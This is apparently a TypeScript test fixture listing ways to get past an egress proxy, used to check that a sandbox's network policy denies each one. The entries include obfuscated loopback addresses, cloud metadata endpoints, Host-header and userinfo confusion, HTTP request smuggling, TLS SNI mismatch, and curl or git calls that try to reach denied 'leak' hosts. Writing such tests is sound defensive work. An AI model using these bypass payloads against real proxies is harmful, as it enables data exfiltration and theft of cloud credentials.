import type { Technique } from './technique.ts'

// Through the proxy: what the policy denies, in every dress. A run with another door has the same proxy.

const SAME_PROXY = { kept: 'the proxy of an advisory run decides the same' }
const EXPECTED = { advisory: SAME_PROXY, open: 'out' } as const

function node(name: string, script: string, open: Technique['open'] = 'out'): Technique {
  return { name, by: 'node', script, advisory: SAME_PROXY, open }
}

/** The two ways of asking the proxy for a target; the words are put in as they are. */
function asked(host: string, port: string, open: Technique['open'] = 'out'): Technique[] {
  const target = `${host}:${port}`
  const fill = (text: string) => `\`${text.replaceAll(/\$(\w+)/g, '${E.$1}')}\``
  return [
    node(
      `asking for ${host}`,
      `proxy(${fill(`GET http://${target}/ HTTP/1.1\\r\\nHost: ${target}\\r\\n{auth}Connection: close\\r\\n\\r\\n`)})`,
      open,
    ),
    node(
      `a tunnel to ${host}`,
      `tunnel(${fill(target)}, ${fill(`GET / HTTP/1.1\\r\\nHost: ${target}\\r\\nConnection: close\\r\\n\\r\\n`)})`,
      open,
    ),
  ]
}

const ok = (host: string, path = '/allowed') =>
  String.raw`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n`
const DENIED = String.raw`GET /leak HTTP/1.1\r\nHost: denied.test\r\n\r\n`

export const PROXIED: readonly Technique[] = [
  ...asked('denied.test', '80'),
  ...asked('stolen-data.denied.test', '80'),
  ...asked('sub.allowed.test', '80'),
  ...asked('allowed.test.denied.test', '80'),
  // This machine, by every spelling.
  ...[
    '127.0.0.1',
    '127.1',
    '0x7f000001',
    '2130706433',
    '0177.0.0.1',
    'localhost',
    '0.0.0.0',
    '[::1]',
  ].flatMap((host) => asked(host, '$LOOPBACK_PORT')),
  ...['$BRIDGE', '$GATEWAY', '$HOST', '[::ffff:$BRIDGE]'].flatMap((host) =>
    asked(host, '$HOST_PORT'),
  ),
  ...asked('host.docker.internal', '$HOST_PORT'),
  ...asked('$OUTSIDE', '80'),
  // What a cloud tells its machines.
  ...asked('$METADATA', '80'),
  ...asked('[$METADATA6]', '80'),
  ...asked('metadata.google.internal', '80'),
  // Names that are allowed and lead inside.
  ...['loopback', 'bridge', 'private', 'metadata'].flatMap((name) =>
    asked(
      `${name}.inside.test`,
      name === 'loopback' ? '$LOOPBACK_PORT' : name === 'bridge' ? '$HOST_PORT' : '80',
    ),
  ),
  // An allowed host at other ports.
  ...['22', '25', '53', '8080'].map((port) =>
    node(`an allowed host at port ${port}`, `tunnel('allowed.test:${port}', 'hello')`),
  ),
  node(
    'the proxy through itself',
    String.raw`
const self = E.PROXY_HOST + ':' + E.PROXY_PORT
tunnel(self, 'GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n' + auth + '\r\n')`,
  ),
  // A denied name behind an allowed one.
  node(
    'another Host field',
    String.raw`proxy('GET http://allowed.test/leak HTTP/1.1\r\nHost: denied.test\r\n{auth}\r\n')`,
  ),
  node(
    'two Host fields',
    String.raw`proxy('GET http://allowed.test/leak HTTP/1.1\r\nHost: allowed.test\r\nhost: denied.test\r\n{auth}\r\n')`,
  ),
  node(
    'a tunnel whose Host field is allowed',
    String.raw`tunnel('denied.test:80', '${DENIED}', 'allowed.test:80')`,
  ),
  node(
    'a user name that looks like the host',
    String.raw`proxy('GET http://allowed.test@denied.test/ HTTP/1.1\r\nHost: denied.test\r\n{auth}\r\n')`,
  ),
  node(
    'a backslash in the host',
    String.raw`proxy('GET http://denied.test\\@allowed.test/ HTTP/1.1\r\nHost: denied.test\r\n{auth}\r\n')`,
    { kept: 'the far side refuses such a target itself' },
  ),
  node('HTTP for another host in a tunnel', String.raw`tunnel('allowed.test:80', '${DENIED}')`),
  node(
    'a second request in a tunnel',
    String.raw`tunnel('allowed.test:80', '${ok('allowed.test')}\r\n${DENIED}')`,
  ),
  node(
    'a second request on a kept connection',
    String.raw`
const socket = proxy('${ok('allowed.test', 'http://allowed.test/allowed')}{auth}\r\n')
socket.once('data', () => socket.write('GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n' + auth + '\r\n'))`,
  ),
  node(
    'a second request right behind the first',
    String.raw`proxy('${ok('allowed.test', 'http://allowed.test/allowed')}{auth}\r\nGET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n{auth}\r\n')`,
  ),
  node(
    'a request in the body of another',
    String.raw`
const hidden = '0\r\n\r\n${DENIED}'
proxy('POST http://allowed.test/allowed HTTP/1.1\r\nHost: allowed.test\r\n{auth}Transfer-Encoding: chunked\r\nContent-Length: ' + hidden.length + '\r\n\r\n' + hidden)`,
    { kept: 'the far side refuses such a framing itself' },
  ),
  node(
    'an absolute request for another host in a tunnel',
    String.raw`tunnel('allowed.test:80', 'GET http://denied.test/ HTTP/1.1\r\nHost: denied.test\r\n\r\n')`,
  ),
  node(
    'another server name in TLS',
    `
tunnel('allowed.test:443', (socket) => {
  socket.removeAllListeners('data')
  const tls = require('node:tls').connect({ socket, servername: 'denied.test', rejectUnauthorized: false })
  tls.on('error', (error) => say(error.code))
  tls.on('data', (data) => say(data))
  tls.write('GET /leak HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n')
})`,
  ),
  {
    name: 'TLS to a denied host',
    by: 'sh',
    script: 'curl -sk --max-time 3 https://denied.test/ 2>&1',
    ...EXPECTED,
  },
  {
    name: 'a TLS host that is denied by way of an allowed one',
    by: 'sh',
    script: `curl -sk --max-time 3 --connect-to denied.test:443:allowed.test:443 https://denied.test/ 2>&1`,
    ...EXPECTED,
  },
  {
    name: 'the clear-text preface of HTTP/2',
    by: 'sh',
    script: `curl -s --max-time 3 --proxytunnel --http2-prior-knowledge --connect-to ::allowed.test:80 http://denied.test/ 2>&1`,
    advisory: SAME_PROXY,
    open: { kept: 'the far side speaks no HTTP/2' },
  },
  {
    name: 'git through the proxy',
    by: 'sh',
    // That what it got is no repository is what git says of an answer.
    script: `git ls-remote http://denied.test/leak.git 2>&1 | grep -q 'not valid' && echo OUT`,
    ...EXPECTED,
  },
  {
    name: 'SOCKS',
    by: 'sh',
    script:
      'curl -s --max-time 3 --noproxy "" -x socks5h://$PROXY_HOST:$PROXY_PORT http://denied.test/ 2>&1',
    advisory: SAME_PROXY,
    open: { kept: 'the careless proxy speaks no SOCKS' },
  },
]
